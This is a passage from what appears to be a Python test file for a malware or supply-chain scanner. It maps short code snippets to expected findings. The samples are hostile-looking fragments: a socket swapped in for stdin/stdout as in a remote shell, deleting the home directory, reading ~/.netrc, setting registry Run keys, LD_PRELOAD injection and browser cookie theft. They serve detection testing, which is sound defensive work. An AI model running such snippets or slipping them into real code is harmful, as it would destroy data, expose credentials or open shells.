    "os.chmod('a', 1)": [],
    "os.write(3, fetched); os.rename('a', 'a.exe')": ["drops: fetches a file and makes it a program: `os.rename`"],
    "os.write(3, fetched); os.replace('a', 'a.exe')": ["drops: fetches a file and makes it a program: `os.replace`"],
    "os.write(3, fetched); shutil.move('a', 'a.exe')": ["drops: fetches a file and makes it a program: `shutil.move`"],
    "os.write(3, fetched); os.rename('a', 'b')": [],
    "os.write(3, fetched); odd.rename('a', 'a.exe')": [],
    "os.rename('a', 'a.exe')": [],
    "shutil.copyfileobj(fetched, unknown); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "os.write(3, fetched); pathlib.Path('a').rename('a.exe')": [
        "drops: fetches a file and makes it a program: `pathlib.Path().rename`"
    ],
    "os.write(3, fetched); os.rename('a.exe', 'a')": [],
    "os.write(3, fetched); os.rename(src='a', dst='a.exe')": [
        "drops: fetches a file and makes it a program: `os.rename`"
    ],
}


def test_a_fetched_file_that_becomes_a_program_is_dropped() -> None:
    assert not wrongly_seen(FETCHED_FILES)


CODE_WRITTEN: Mapping[str, list[str]] = {
    "open('a').write('import os;os.system(1)')": ["hidden-text: writes code into a file: `import os;os.system(`"],
    "open('a').write(b'import os;os.system(1)')": ["hidden-text: writes code into a file: `import os;os.system(`"],
    "open('a').write(f'import os;os.system({unknown})')": [],
    "open('a').write('x')": [],
    "open('a').write(unknown)": [],
}


def test_code_in_a_known_text_that_is_written_is_hidden() -> None:
    assert not wrongly_seen(CODE_WRITTEN)


CONNECTIONS: Mapping[str, list[str]] = {
    "os.dup2(socket.socket().fileno(), 0)": [
        "hostile: puts a connection in place of input and output, as a remote shell does"
    ],
    "os.dup2(fd=socket.socket().fileno())": [
        "hostile: puts a connection in place of input and output, as a remote shell does"
    ],
    "os.dup2(0, socket.socket().fileno())": [],
}


def test_a_connection_in_place_of_input_and_output_is_hostile() -> None:
    assert not wrongly_seen(CONNECTIONS)


REMOVED: Mapping[str, list[str]] = {
    "shutil.rmtree('~')": ["hostile: removes `~` and all that is in it"],
    "shutil.rmtree(path='~')": ["hostile: removes `~` and all that is in it"],
    "shutil.rmtree('a', '~')": [],
    "shutil.rmtree('~/a')": [],
}


def test_a_whole_place_that_is_removed_is_hostile() -> None:
    assert not wrongly_seen(REMOVED)


SETTINGS: Mapping[str, list[str]] = {
    "configparser.ConfigParser().read('~/.netrc')": ["secrets: reads `~/.netrc`"],
    "configparser.ConfigParser().read(filenames='~/.netrc')": ["secrets: reads `~/.netrc`"],
    "configparser.ConfigParser().read('a.ini', '~/.netrc')": [],
    "odd.ConfigParser().read('~/.netrc')": [],
}


def test_secrets_that_configparser_reads_are_a_finding() -> None:
    assert not wrongly_seen(SETTINGS)


PIP: Mapping[str, list[str]] = {
    "pip.main(['install', 'odd'])": ["installs: `pip.main`: `install odd`"],
    "pip.pipmain(['install', 'odd'])": ["installs: `pip.pipmain`: `install odd`"],
    "pip._internal.main(['install', 'odd'])": ["installs: `pip._internal.main`: `install odd`"],
    "pip._internal.cli.main(['install', 'odd'])": ["installs: `pip._internal.cli.main`: `install odd`"],
    "pip._internal.cli.main.main(['install', 'odd'])": ["installs: `pip._internal.cli.main.main`: `install odd`"],
    "pip.main(['list'])": [],
    "pip.main(['uninstall', 'odd'])": [],
    "pip.main(['list'], 'install')": [],
    "pip.main.main(['install'])": [],
    "odd.main(['install'])": [],
    "pip.main(args=['install', 'odd'])": ["installs: `pip.main`: `install odd`"],
}


def test_pips_own_function_installs_if_it_is_told_to() -> None:
    assert not wrongly_seen(PIP)


BROWSER: Mapping[str, list[str]] = {
    "webbrowser.open('https://a.example')": ["process: opens `https://a.example` in the browser"],
    "webbrowser.open_new(url='https://a.example')": ["process: opens `https://a.example` in the browser"],
    "webbrowser.open_new_tab(unknown)": ["process: opens `…` in the browser"],
    "odd.open_new('https://a.example')": [],
}


def test_an_address_in_the_browser_is_a_process() -> None:
    assert not wrongly_seen(BROWSER)


REGISTRY: Mapping[str, list[str]] = {
    "winreg.SetValueEx(unknown, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0)": [
        "startup: writes a key of the registry that starts programs"
    ],
    "winreg.SetValue(unknown, r'a\\currentversion\\RunOnce')": [
        "startup: writes a key of the registry that starts programs"
    ],
    "odd.RegSetValueEx(r'a\\CurrentVersion\\Run')": ["startup: writes a key of the registry that starts programs"],
    "winreg.CreateKey(r'a\\CurrentVersion\\Run')": ["startup: writes a key of the registry that starts programs"],
    "winreg.OpenKey(r'a\\CurrentVersion\\Run')": ["startup: writes a key of the registry that starts programs"],
    "winreg.OpenKey(r'a\\CurrentVersion\\Fonts')": [],
}


def test_a_key_of_the_registry_that_starts_programs_is_a_finding() -> None:
    assert not wrongly_seen(REGISTRY)


SETUP: Mapping[str, list[str]] = {
    "setup(cmdclass={'install': odd})": ["install-command: setup() has its own `install`"],
    "setuptools.setup(cmdclass={'develop': odd, 'egg_info': odd, 'build_ext': odd})": [
        "install-command: setup() has its own `develop`, `egg_info`"
    ],
    "setuptools.setup(cmdclass={'install_lib': odd, 'install_scripts': odd, 'install_data': odd})": [
        "install-command: setup() has its own `install_data`, `install_lib`, `install_scripts`"
    ],
    "setuptools.setup(cmdclass={'build_ext': odd})": [],
    "setuptools.setup(cmdclass=unknown)": [],
    "setuptools.setup(name='odd')": [],
}


def test_own_commands_in_place_of_those_of_an_install_are_a_finding() -> None:
    assert not wrongly_seen(SETUP)


INJECTED: Mapping[str, list[str]] = {
    "os.environ.update(LD_PRELOAD='a', PATH='b')": [
        "injects: sets `LD_PRELOAD`, which loads a library into each program that starts"
    ],
    "os.environ.update({'PATH': 'a', 'LD_AUDIT': 'b'})": [
        "injects: sets `LD_AUDIT`, which loads a library into each program that starts"
    ],
    "os.environ.setdefault('LD_PRELOAD', 'a')": [
        "injects: sets `LD_PRELOAD`, which loads a library into each program that starts"
    ],
    "os.putenv('DYLD_INSERT_LIBRARIES', 'a')": [
        "injects: sets `DYLD_INSERT_LIBRARIES`, which loads a library into each program that starts"
    ],
    "os.environ.update(PATH='a')": [],
    "os.environ.update(unknown)": [],
    "os.environ.setdefault('PATH', 'LD_PRELOAD')": [],
    "{}.update(LD_PRELOAD='a')": [],
    "odd.setdefault('LD_PRELOAD', 'a')": [],
}


def test_a_variable_that_loads_a_library_is_found_in_each_call_that_sets_it() -> None:
    assert not wrongly_seen(INJECTED)


NAMED: Mapping[str, list[str]] = {
    "pyperclip.paste()": ["watches: `pyperclip.paste`"],
    "odd.paste()": [],
    "keyboard.hook.record()": [],
    "d3dshot.create().capture()": ["watches: `d3dshot.create`"],
    "odd.VirtualAlloc()": ["injects: `VirtualAlloc` puts code into memory"],
    "VirtualAlloc()": [],
    "odd.VirtualAllocLater()": [],
    "browser_cookie3.chrome()": ["secrets: `browser_cookie3.chrome`"],
    "browser_cookie3.chrome.odd()": [],
    "odd.chrome()": [],
}


def test_calls_that_watch_inject_or_decrypt_are_known_by_their_whole_name() -> None:
    assert not wrongly_seen(NAMED)
